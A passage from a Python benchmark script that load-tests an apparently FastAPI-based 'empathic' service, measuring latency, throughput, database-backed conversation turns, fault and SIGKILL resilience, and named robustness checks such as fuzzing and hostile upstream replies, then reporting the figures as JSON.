    return {"max_throughput_msgs_per_s": max_analyze, "max_turns_per_s": round(max_turns, 1),
            "open_loop_analyze": analyze_run, "open_loop_turns": turn_run,
            "p99_analyze_ms": analyze_run["p99_ms"], "p99_turn_ms": turn_run["p99_ms"]}  # fmt: skip


def bench_scale(db_url: str, turns: int) -> dict:
    one = bench_conversations(db_url, 50, turns, 1)
    two = bench_conversations(db_url, 50, turns, 2)
    return {"turns_per_s_1_worker_postgres": one["turns_per_s"],
            "turns_per_s_2_workers_postgres": two["turns_per_s"],
            "scale_2_workers": round(two["turns_per_s"] / max(one["turns_per_s"], 1e-9), 2)}  # fmt: skip


def security_figures(work: Path, quick: bool) -> dict:
    figures: dict = {}
    steps = [
        ("tenant matrix", lambda: bench_tenants(f"sqlite:///{work / 'tenants.db'}")),
        ("malformed inputs", lambda: bench_bad_inputs(f"sqlite:///{work / 'bad.db'}")),
        ("schema fuzz", lambda: bench_fuzz(f"sqlite:///{work / 'fuzz.db'}", 15 if quick else 40)),
        ("bad-key flood", lambda: bench_bad_key_flood(f"sqlite:///{work / 'flood.db'}", 10_000)),
        ("dripping upstream (timeout 2 s)",
         lambda: bench_drip(f"sqlite:///{work / 'drip.db'}", 2.0, 10)),
        ("50 hung upstream calls", lambda: bench_hung(f"sqlite:///{work / 'hung.db'}", 50, 10.0)),
        ("hostile upstream replies",
         lambda: bench_hostile(f"sqlite:///{work / 'hostile.db'}", 12 if quick else 24)),
        ("retries", lambda: bench_retries(f"sqlite:///{work / 'retry.db'}", 5 if quick else 15)),
    ]  # fmt: skip
    for name, step in steps:
        row = step()
        print(f"  {name}: {row}", flush=True)
        figures.update(row)
    return figures


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--quick", action="store_true", help="shorter runs")
    parser.add_argument("--postgres", default=os.environ.get("EMPATHIC_TEST_POSTGRES_URL"),
                        help="PostgreSQL URL for the conversation test (its tables are reused)")  # fmt: skip
    parser.add_argument("--clients", type=int, default=50)
    parser.add_argument("--workers", type=int, default=1, help="server worker processes")
    parser.add_argument("--only", choices=["security", "openloop"],
                        help="run only part 5 (security) or part 6 (open loop, scaling)")  # fmt: skip
    args = parser.parse_args()
    seconds = 5.0 if args.quick else 15.0
    turns = 5 if args.quick else 20
    work = Path(tempfile.mkdtemp(prefix="empathic-bench-"))
    sqlite = f"sqlite:///{work / 'bench.db'}"
    figures: dict = {}
    if args.only:
        figures = partial(args, work, seconds, turns)
        print(json.dumps(figures))
        return

    print(f"load: {args.clients} concurrent clients, {seconds:.0f} s per endpoint, "
          f"{args.workers} server worker(s)", flush=True)  # fmt: skip
    engine_rate, engine_batch = bench_engine(seconds / 2)
    # Little's law: with every client waiting on its answer, the mean latency is clients / rate.
    floor_ms = 1000 * args.clients / engine_rate
    print(f"  the engine alone, in process: at most {engine_rate:.0f} messages/s (batches of "
          f"{engine_batch}), so {args.clients} clients wait {floor_ms:.0f} ms on average at best",
          flush=True)  # fmt: skip
    loaded = bench_load(f"sqlite:///{work / 'load.db'}", args.clients, seconds, args.workers)
    for name, row in loaded.items():
        print(f"  {name:8s} {row['rps']:8.1f} req/s  p50 {row['p50_ms']:7.2f} ms  "
              f"p99 {row['p99_ms']:7.2f} ms  errors {row['errors']}", flush=True)  # fmt: skip
    ratio = loaded["healthz"]["rps"] / max(loaded["analyze"]["rps"], 1e-9)
    print(f"  /healthz serves {ratio:.1f}x the requests of /v1/analyze; 'bare app' is a FastAPI "
          "route that does nothing", flush=True)  # fmt: skip

    print(f"conversations: {args.clients} x {turns} turns", flush=True)
    sqlite_run = bench_conversations(sqlite, args.clients, turns, args.workers)
    print(f"  sqlite     {sqlite_run}", flush=True)
    postgres_run = None
    if args.postgres:
        try:
            postgres_run = bench_conversations(args.postgres, args.clients, turns, args.workers)
            print(f"  postgresql {postgres_run}", flush=True)
        except Exception as exc:  # noqa: BLE001 - reported, and the figure stays null
            print(f"  postgresql failed: {exc}", flush=True)
    else:
        print("  postgresql skipped (no --postgres / EMPATHIC_TEST_POSTGRES_URL)", flush=True)

    print("upstream faults (timeout 1 s):", flush=True)
    faults = bench_faults(sqlite, 8 if args.quick else 20, 1.0)
    for mode in ("down", "slow", "garbage"):
        print(f"  {mode:8s} {faults[mode]}", flush=True)

    print("SIGKILL mid-load:", flush=True)
    killed = bench_sigkill(sqlite, 20, 2.0 if args.quick else 4.0)
    print(f"  {killed}", flush=True)

    figures = {
        "analyze_p99_ms_c50": loaded["analyze"]["p99_ms"],
        "analyze_p50_ms_c50": loaded["analyze"]["p50_ms"],
        "analyze_rps_c50": loaded["analyze"]["rps"],
        "healthz_rps_c50": loaded["healthz"]["rps"],
        "healthz_p99_ms_c50": loaded["healthz"]["p99_ms"],
        "bare_app_rps_c50": loaded["bare app"]["rps"],
        "bare_app_p99_ms_c50": loaded["bare app"]["p99_ms"],
        "engine_msgs_per_s": round(engine_rate, 1),
        "mean_latency_floor_ms_c50": round(floor_ms, 1),
        "errors": loaded["analyze"]["errors"] + loaded["healthz"]["errors"],
        "turns_lost_sqlite": sqlite_run["turns_lost"],
        "turns_lost_postgres": postgres_run["turns_lost"] if postgres_run else None,
        "turns_per_s_sqlite": sqlite_run["turns_per_s"],
        "turns_per_s_postgres": postgres_run["turns_per_s"] if postgres_run else None,
        "fallback_ok": faults["fallback_ok"],
        "sigkill_acknowledged": killed["acknowledged"],
        "sigkill_turns_lost": killed["lost"],
        "lost_turns_sigkill": killed["lost"],
        "clients": args.clients,
        "workers": args.workers,
        "quick": args.quick,
    }
    args.only = None
    figures.update(partial(args, work, seconds, turns))
    print(json.dumps(figures))


def partial(args: argparse.Namespace, work: Path, seconds: float, turns: int) -> dict:
    """Parts 5 and 6 (issue 17's figures); ``args.only`` picks one of them."""
    figures: dict = {}
    if args.only in (None, "security"):
        print("security and reliability:", flush=True)
        figures.update(security_figures(work, args.quick))
        if args.only:
            killed = bench_sigkill(f"sqlite:///{work / 'kill.db'}", 20, 2.0 if args.quick else 4.0)
            print(f"  SIGKILL mid-load: {killed}", flush=True)
            figures["lost_turns_sigkill"] = killed["lost"]
    if args.only in (None, "openloop"):
        print("open loop at 70% of the measured maximum:", flush=True)
        row = bench_open_loop(f"sqlite:///{work / 'open.db'}", seconds)
        print(f"  {row}", flush=True)
        figures.update(row)
        if args.postgres:
            scale = bench_scale(args.postgres, max(turns // 2, 4))
            print(f"  two workers on PostgreSQL: {scale}", flush=True)
            figures.update(scale)
        else:
            figures["scale_2_workers"] = None
            print("  scaling skipped (no --postgres / EMPATHIC_TEST_POSTGRES_URL)", flush=True)
    return figures


if __name__ == "__main__":
    main()
